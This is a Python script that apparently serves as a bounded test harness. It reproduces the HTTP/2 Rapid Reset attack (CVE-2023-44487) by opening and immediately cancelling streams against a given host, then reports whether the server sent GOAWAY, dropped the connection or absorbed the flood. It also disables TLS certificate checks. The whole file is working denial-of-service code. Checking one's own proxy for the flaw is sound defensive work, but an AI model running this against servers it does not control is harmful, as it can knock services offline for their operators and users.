"""Rapid reset (CVE-2023-44487) from a raw HTTP/2 client: open a stream, reset it at once, repeat.

Usage: h2_rapid_reset.py HOST PORT PATH STREAMS
Prints one line: "goaway <error code>" when the server sent GOAWAY, "closed" when it closed the
connection without one, or "survived <n>" when every stream was opened and reset unanswered.
Bounded: at most STREAMS streams and 20 s.
"""
import socket
import ssl
import sys
import time

import h2.config
import h2.connection
import h2.events

host, port, path, streams = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
context = ssl.create_default_context()
context.check_hostname = False
context.verify_mode = ssl.CERT_NONE  # the proxy's own CA; the test is about framing, not trust
context.set_alpn_protocols(["h2"])
raw = socket.create_connection((host, port), timeout=20)
sock = context.wrap_socket(raw, server_hostname="localhost")
assert sock.selected_alpn_protocol() == "h2", sock.selected_alpn_protocol()
conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True))
conn.initiate_connection()
sock.sendall(conn.data_to_send())
sock.settimeout(0.0)
deadline = time.monotonic() + 20
headers = [(":method", "GET"), (":scheme", "https"), (":authority", "localhost"), (":path", path)]


def drain():
    """Reads what the server sent so far; returns the outcome line once the connection is over."""
    while True:
        try:
            data = sock.recv(65536)
        except (BlockingIOError, ssl.SSLWantReadError):
            return None
        except (ConnectionError, ssl.SSLError):
            return "closed"
        if not data:
            return "closed"
        for event in conn.receive_data(data):
            if isinstance(event, h2.events.ConnectionTerminated):
                return f"goaway {int(event.error_code)}"
        pending = conn.data_to_send()
        if pending:
            try:
                sock.sendall(pending)
            except (BlockingIOError, ssl.SSLWantWriteError, ConnectionError, ssl.SSLError):
                pass


outcome = None
sent = 0
try:
    for _ in range(streams):
        if time.monotonic() > deadline:
            break
        stream_id = conn.get_next_available_stream_id()
        conn.send_headers(stream_id, headers, end_stream=True)
        conn.reset_stream(stream_id, error_code=8)  # CANCEL
        try:
            sock.sendall(conn.data_to_send())
        except (BlockingIOError, ssl.SSLWantWriteError):
            time.sleep(0.001)
        except (ConnectionError, ssl.SSLError):
            outcome = "closed"
            break
        sent += 1
        outcome = drain()
        if outcome:
            break
    while outcome is None and time.monotonic() < deadline:
        time.sleep(0.05)
        outcome = drain()
except h2.exceptions.ProtocolError:
    outcome = "closed"  # the server's GOAWAY already ended the connection on our side
print(outcome or f"survived {sent}")
